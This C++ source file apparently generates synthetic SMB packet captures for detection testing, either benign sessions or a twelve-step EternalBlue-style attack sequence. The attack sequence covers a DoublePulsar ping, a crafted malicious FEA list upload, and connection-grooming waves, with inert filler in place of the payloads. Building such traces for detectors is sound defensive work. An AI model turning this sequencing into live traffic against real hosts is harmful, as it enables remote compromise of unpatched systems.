#include "etlab/trace_gen.hpp"

#include "etlab/fea.hpp"
#include "etlab/smb.hpp"

#include <algorithm>
#include <charconv>
#include <random>
#include <vector>

namespace etlab::capture {

Scenario Scenario::truncated(int last_step) {
    if (last_step < 1 || last_step > kAttackSteps)
        throw std::invalid_argument("truncation step must be in 1.." + std::to_string(kAttackSteps));
    return {Kind::TruncatedAttack, last_step};
}

Scenario Scenario::parse(std::string_view text) {
    if (text == "benign") return benign();
    if (text == "full-attack") return full_attack();
    constexpr std::string_view prefix = "truncated:";
    if (text.substr(0, prefix.size()) == prefix) {
        const auto digits = text.substr(prefix.size());
        int n = 0;
        auto [end, ec] = std::from_chars(digits.data(), digits.data() + digits.size(), n);
        if (ec == std::errc{} && end == digits.data() + digits.size()) return truncated(n);
    }
    throw std::invalid_argument("unknown scenario '" + std::string(text) +
                                "' (expected benign, full-attack or truncated:N)");
}

std::string to_string(const Scenario& s) {
    switch (s.kind) {
    case Scenario::Kind::Benign: return "benign";
    case Scenario::Kind::FullAttack: return "full-attack";
    case Scenario::Kind::TruncatedAttack: return "truncated:" + std::to_string(s.last_step);
    }
    return "?";
}

namespace {

using namespace etlab::smb;

// Only raw engine outputs are used so traces are identical across standard
// library implementations.
class Rng {
public:
    explicit Rng(std::uint64_t seed) : engine_(seed) {}
    std::uint64_t next() { return engine_(); }
    std::uint64_t below(std::uint64_t n) { return next() % n; }

private:
    std::mt19937_64 engine_;
};

class TraceBuilder {
public:
    TraceBuilder(const TraceOptions& options, Rng& rng)
        : options_(options), rng_(rng),
          now_(std::chrono::seconds(1'494'460'800 + static_cast<std::int64_t>(rng.below(86'400)))),
          next_port_(static_cast<std::uint16_t>(49'152 + rng.below(8'000))) {}

    int connect() {
        Conn c;
        c.client = {options_.attacker, next_port_++};
        c.server = {options_.victim, kSmbPort};
        c.seq[0] = static_cast<std::uint32_t>(rng_.next());
        c.seq[1] = static_cast<std::uint32_t>(rng_.next());
        conns_.push_back(c);
        const int id = static_cast<int>(conns_.size()) - 1;
        packet(id, Direction::ClientToServer, tcp_flags::kSyn, {});
        packet(id, Direction::ServerToClient, tcp_flags::kSyn | tcp_flags::kAck, {});
        packet(id, Direction::ClientToServer, tcp_flags::kAck, {});
        return id;
    }

    void send(int id, Direction d, ByteView data) {
        for (std::size_t at = 0; at < data.size(); at += options_.mss) {
            const auto n = std::min(options_.mss, data.size() - at);
            packet(id, d, tcp_flags::kAck | tcp_flags::kPsh, data.subspan(at, n));
        }
    }

    void send(int id, const SmbMessage& m) {
        send(id, m.header.is_reply() ? Direction::ServerToClient : Direction::ClientToServer,
             serialize_smb(m));
    }

    void close(int id) {
        packet(id, Direction::ClientToServer, tcp_flags::kFin | tcp_flags::kAck, {});
        packet(id, Direction::ServerToClient, tcp_flags::kFin | tcp_flags::kAck, {});
        packet(id, Direction::ClientToServer, tcp_flags::kAck, {});
    }

    CaptureFile take() { return std::move(file_); }

private:
    struct Conn {
        Endpoint client, server;
        std::uint32_t seq[2] = {0, 0};
    };

    void packet(int id, Direction d, std::uint8_t flags, ByteView payload) {
        Conn& c = conns_[static_cast<std::size_t>(id)];
        const int me = d == Direction::ClientToServer ? 0 : 1;
        TcpSegment s;
        s.source = me == 0 ? c.client : c.server;
        s.destination = me == 0 ? c.server : c.client;
        s.seq = c.seq[me];
        s.flags = flags;
        if (flags & tcp_flags::kAck) s.ack = c.seq[1 - me];
        s.payload.assign(payload.begin(), payload.end());
        c.seq[me] += static_cast<std::uint32_t>(payload.size());
        if (flags & (tcp_flags::kSyn | tcp_flags::kFin)) c.seq[me] += 1;

        CaptureRecord r;
        r.frame = encode_frame(s, ip_id_++);
        r.original_length = static_cast<std::uint32_t>(r.frame.size());
        r.ts_sec = static_cast<std::uint32_t>(now_.count() / 1'000'000);
        r.ts_frac = static_cast<std::uint32_t>(now_.count() % 1'000'000);
        file_.records.push_back(std::move(r));
        now_ += options_.spacing;
    }

    const TraceOptions& options_;
    Rng& rng_;
    Timestamp now_;
    std::uint16_t next_port_;
    std::uint16_t ip_id_ = 1;
    std::vector<Conn> conns_;
    CaptureFile file_;
};

// Common per-session identifiers.
struct Ids {
    std::uint16_t pid = 0;
    std::uint16_t uid = 0;
    std::uint16_t tid = 0;
    std::uint16_t mid = 0;
};

SmbHeader request_header(std::uint8_t cmd, const Ids& ids) {
    SmbHeader h;
    h.command = cmd;
    h.process_id = ids.pid;
    h.user_id = ids.uid;
    h.tree_id = ids.tid;
    h.multiplex_id = ids.mid;
    return h;
}

SmbMessage reply_to(const SmbMessage& req, std::uint32_t nt_status, SmbBlock block = {}) {
    SmbHeader h = req.header;
    h.flags |= kFlagsReply;
    h.nt_status = nt_status;
    return make_message(h, std::move(block));
}

SmbBlock words_only(std::size_t word_count) { return SmbBlock::from(Bytes(word_count * 2, 0), {}); }

SmbMessage negotiate(const Ids& ids) {
    return make_message(request_header(command::kNegotiate, ids),
                        encode_negotiate_request({"PC NETWORK PROGRAM 1.0", "LANMAN1.0",
                                                  "Windows for Workgroups 3.1a", "LM1.2X002",
                                                  "LANMAN2.1", "NT LM 0.12"}));
}

SmbMessage negotiate_reply(const SmbMessage& req) {
    ByteWriter w;
    w.u16le(5);  // selected dialect index
    w.fill(32, 0);
    return reply_to(req, status::kSuccess, SmbBlock::from(w.take(), {}));
}

/// Brings a connection up to an authenticated IPC$ tree, returning its ids.
Ids setup_session(TraceBuilder& tb, int conn, Rng& rng, const TraceOptions& o, bool extended) {
    Ids ids;
    ids.pid = static_cast<std::uint16_t>(rng.next());
    auto req = negotiate(ids);
    tb.send(conn, req);
    tb.send(conn, negotiate_reply(req));

    SessionSetupRequest ss;
    ss.max_buffer_size = 0x1104;
    ss.max_mpx_count = 50;
    ss.extended_form = extended;
    ss.capabilities = extended ? 0x800000D4 : 0x000000D4;
    const Bytes blob = inert_filler(extended ? 74 : 24);
    if (extended) ss.security_blob_length = static_cast<std::uint16_t>(blob.size());
    req = make_message(request_header(command::kSessionSetupAndX, ids),
                       encode_session_setup_request(ss, blob));
    tb.send(conn, req);
    ids.uid = static_cast<std::uint16_t>(0x800 + rng.below(0x7000));
    auto rep = req;
    rep.header.user_id = ids.uid;
    tb.send(conn, reply_to(rep, status::kSuccess, words_only(3)));

    const std::string share = extended ? "\\\\" + format_ipv4(o.victim) + "\\share"
                                       : "\\\\" + format_ipv4(o.victim) + "\\IPC$";
    req = make_message(request_header(command::kTreeConnectAndX, ids), encode_tree_connect_request(share));
    tb.send(conn, req);
    ids.tid = static_cast<std::uint16_t>(0x800 + rng.below(0x7000));
    rep = req;
    rep.header.tree_id = ids.tid;
    tb.send(conn, reply_to(rep, status::kSuccess, words_only(3)));
    return ids;
}

SmbMessage echo(const Ids& ids) {
    return make_message(request_header(command::kEcho, ids), encode_echo_request(1, inert_filler(1)));
}

/// Negotiate, then a Session Setup whose NetBIOS frame reaches `total` bytes.
void send_reserve(TraceBuilder& tb, int conn, Rng& rng, std::size_t total) {
    Ids ids;
    ids.pid = static_cast<std::uint16_t>(rng.next());
    auto req = negotiate(ids);
    tb.send(conn, req);
    tb.send(conn, negotiate_reply(req));

    SessionSetupRequest ss;
    ss.max_buffer_size = 0x1104;
    ss.max_mpx_count = 50;
    ss.extended_form = true;
    ss.capabilities = 0x000000D4;  // no extended security, despite the 12-word form
    const auto block = encode_session_setup_request(ss, inert_filler(0x40));
    SmbMessage shell;
    shell.header = request_header(command::kSessionSetupAndX, ids);
    shell.block = block;
    const std::size_t used = shell.wire_size();
    tb.send(conn, make_message(shell.header, block, inert_filler(total - used)));
}

Bytes raw_prefix(std::size_t body) {
    ByteWriter w;
    w.u8(0x00);
    w.u8(static_cast<std::uint8_t>(body >> 16));
    w.u16be(static_cast<std::uint16_t>(body));
    w.u8(0xFE);
    w.text("SMB");
    return w.take();
}

void open_wave(TraceBuilder& tb, std::vector<int>& out, std::size_t n) {
    for (std::size_t i = 0; i < n; ++i) {
        const int c = tb.connect();
        Bytes data = raw_prefix(0xFFF7);
        const Bytes filler = inert_filler(0x80);
        data.insert(data.end(), filler.begin(), filler.end());
        tb.send(c, Direction::ClientToServer, data);
        out.push_back(c);
    }
}

CaptureFile attack(int last_step, bool close_all, Rng& rng, const TraceOptions& o) {
    TraceBuilder tb(o, rng);
    auto done = [&](int step) { return step >= last_step; };

    // Step 1: reconnaissance on the upload connection.
    const int upload = tb.connect();
    Ids ids = setup_session(tb, upload, rng, o, false);
    ids.mid = 0x40;
    auto peek = ProbePacket(ProbePacket::Kind::PeekNamedPipe).request(request_header(0, ids));
    tb.send(upload, peek);
    tb.send(upload, reply_to(peek, status::kInsuffServerResources));
    auto ping = ProbePacket(ProbePacket::Kind::DoublePulsarPing).request(request_header(0, ids));
    tb.send(upload, ping);
    tb.send(upload, reply_to(ping, status::kNotImplemented));
    if (done(1)) return tb.take();

    // Step 2: the list, minus its final segment.
    const SrvnetHeaderImage image{0x7A7A0000, 0x7A7A0000};
    const Bytes list = fea::craft_malicious_list({}, image).serialize();
    const std::size_t first = 1000;
    ids.mid = static_cast<std::uint16_t>(0x100 + rng.below(0x100));
    NtTransParams nt;
    nt.max_setup_count = 1;
    nt.total_data_count = static_cast<std::uint32_t>(list.size());
    nt.max_parameter_count = 0x1E;
    nt.max_data_count = 0;
    nt.function = 0;
    nt.parameters = Bytes(30, 0);
    nt.data.assign(list.begin(), list.begin() + first);
    auto nt_req = make_message(request_header(command::kNtTransact, ids), encode_nt_trans_request(nt));
    tb.send(upload, nt_req);
    tb.send(upload, reply_to(nt_req, status::kSuccess));

    std::vector<Bytes> segments;
    for (std::size_t at = first; at < list.size(); at += o.upload_chunk)
        segments.emplace_back(list.begin() + static_cast<std::ptrdiff_t>(at),
                              list.begin() + static_cast<std::ptrdiff_t>(std::min(list.size(), at + o.upload_chunk)));
    std::size_t displacement = first;
    auto secondary = [&](const Bytes& chunk) {
        Trans2SecondaryParams p;
        p.total_data_count = static_cast<std::uint16_t>(list.size());
        p.data_displacement = static_cast<std::uint16_t>(displacement);
        p.data = chunk;
        displacement += chunk.size();
        return make_message(request_header(command::kTransaction2Secondary, ids),
                            encode_trans2_secondary(p));
    };
    for (std::size_t i = 0; i + 1 < segments.size(); ++i) tb.send(upload, secondary(segments[i]));
    if (done(2)) return tb.take();

    // Step 3.
    Ids echo_ids = ids;
    echo_ids.mid = static_cast<std::uint16_t>(ids.mid + 1);
    auto e = echo(echo_ids);
    tb.send(upload, e);
    tb.send(upload, reply_to(e, status::kSuccess, words_only(1)));
    if (done(3)) return tb.take();

    // Step 4.
    const int reserve1 = tb.connect();
    send_reserve(tb, reserve1, rng, 0x10000);
    if (done(4)) return tb.take();

    // Step 5.
    std::vector<int> waves;
    open_wave(tb, waves, o.first_wave);
    if (done(5)) return tb.take();

    // Step 6.
    const int reserve2 = tb.connect();
    send_reserve(tb, reserve2, rng, 0x11000);
    if (done(6)) return tb.take();

    // Step 7.
    tb.close(reserve1);
    if (done(7)) return tb.take();

    // Step 8.
    open_wave(tb, waves, o.second_wave);
    if (done(8)) return tb.take();

    // Step 9.
    echo_ids.mid = static_cast<std::uint16_t>(echo_ids.mid + 1);
    e = echo(echo_ids);
    tb.send(upload, e);
    tb.send(upload, reply_to(e, status::kSuccess, words_only(1)));
    if (done(9)) return tb.take();

    // Step 10.
    tb.close(reserve2);
    if (done(10)) return tb.take();

    // Step 11: the last segment of the list.
    tb.send(upload, secondary(segments.back()));
    if (done(11)) return tb.take();

    // Step 12.
    for (int c : waves) tb.send(c, Direction::ClientToServer, inert_filler(o.burst_bytes));
    if (close_all) {
        for (int c : waves) tb.close(c);
        tb.close(upload);
    }
    return tb.take();
}

CaptureFile benign(Rng& rng, const TraceOptions& o) {
    TraceBuilder tb(o, rng);
    const int conn = tb.connect();
    Ids ids = setup_session(tb, conn, rng, o, true);
    auto next_mid = [&] { return ++ids.mid, ids; };

    TransactionParams find;
    find.max_parameter_count = 10;
    find.max_data_count = 0x4000;
    find.setup = {subcommand::kTrans2FindFirst2};
    find.parameters = inert_filler(20);
    auto req = make_message(request_header(command::kTransaction2, next_mid()), encode_transaction_request(find));
    tb.send(conn, req);
    tb.send(conn, reply_to(req, status::kSuccess, words_only(10)));

    // A set-file-information transaction too large for one message.
    const Bytes info = inert_filler(600 + rng.below(400));
    const std::size_t head = info.size() / 2;
    TransactionParams set;
    set.total_data_count = static_cast<std::uint16_t>(info.size());
    set.max_parameter_count = 2;
    set.setup = {0x0008};
    set.parameters = inert_filler(6);
    set.data.assign(info.begin(), info.begin() + static_cast<std::ptrdiff_t>(head));
    req = make_message(request_header(command::kTransaction2, next_mid()), encode_transaction_request(set));
    tb.send(conn, req);
    tb.send(conn, reply_to(req, status::kSuccess, words_only(0)));
    Trans2SecondaryParams cont;
    cont.total_parameter_count = 6;
    cont.total_data_count = static_cast<std::uint16_t>(info.size());
    cont.data_displacement = static_cast<std::uint16_t>(head);
    cont.data.assign(info.begin() + static_cast<std::ptrdiff_t>(head), info.end());
    tb.send(conn, make_message(request_header(command::kTransaction2Secondary, ids), encode_trans2_secondary(cont)));
    tb.send(conn, reply_to(req, status::kSuccess, words_only(10)));

    // File operations, carried opaquely.
    const int files = 1 + static_cast<int>(rng.below(3));
    for (int f = 0; f < files; ++f) {
        for (std::uint8_t cmd : {std::uint8_t{0xA2}, std::uint8_t{0x2F}, std::uint8_t{0x2E}, std::uint8_t{0x04}}) {
            const std::size_t body = cmd == 0x2F ? 512 + rng.below(2048) : 16;
            req = make_message(request_header(cmd, next_mid()), SmbBlock::from(Bytes(24, 0), inert_filler(body)));
            tb.send(conn, req);
            const std::size_t reply_body = cmd == 0x2E ? 512 + rng.below(2048) : 0;
            tb.send(conn, reply_to(req, status::kSuccess, SmbBlock::from(Bytes(12, 0), inert_filler(reply_body))));
        }
    }

    auto e = echo(next_mid());
    tb.send(conn, e);
    tb.send(conn, reply_to(e, status::kSuccess, words_only(1)));

    // Security-descriptor query split over an NT Trans and its own secondary.
    const Bytes sd = inert_filler(300);
    NtTransParams q;
    q.total_data_count = static_cast<std::uint32_t>(sd.size());
    q.max_parameter_count = 4;
    q.max_data_count = 0x1000;
    q.function = 0x0006;
    q.parameters = inert_filler(8);
    q.data.assign(sd.begin(), sd.begin() + 100);
    req = make_message(request_header(command::kNtTransact, next_mid()), encode_nt_trans_request(q));
    tb.send(conn, req);
    tb.send(conn, reply_to(req, status::kSuccess));
    ByteWriter sec;
    sec.fill(3, 0);
    sec.u32le(8);
    sec.u32le(static_cast<std::uint32_t>(sd.size()));
    sec.fill(36 - sec.size(), 0);
    req = make_message(request_header(command::kNtTransactSecondary, ids),
                       SmbBlock::from(sec.take(), Bytes(sd.begin() + 100, sd.end())));
    tb.send(conn, req);
    tb.send(conn, reply_to(req, status::kSuccess, words_only(18)));

    for (std::uint8_t cmd : {std::uint8_t{0x71}, std::uint8_t{0x74}}) {
        req = make_message(request_header(cmd, next_mid()), cmd == 0x74 ? words_only(2) : words_only(0));
        tb.send(conn, req);
        tb.send(conn, reply_to(req, status::kSuccess, words_only(0)));
    }
    tb.close(conn);
    return tb.take();
}

}  // namespace

CaptureFile generate_trace(const Scenario& scenario, std::uint64_t seed, const TraceOptions& options) {
    Rng rng(seed);
    switch (scenario.kind) {
    case Scenario::Kind::Benign: return benign(rng, options);
    case Scenario::Kind::FullAttack: return attack(kAttackSteps, true, rng, options);
    case Scenario::Kind::TruncatedAttack: return attack(scenario.last_step, false, rng, options);
    }
    return {};
}

}  // namespace etlab::capture
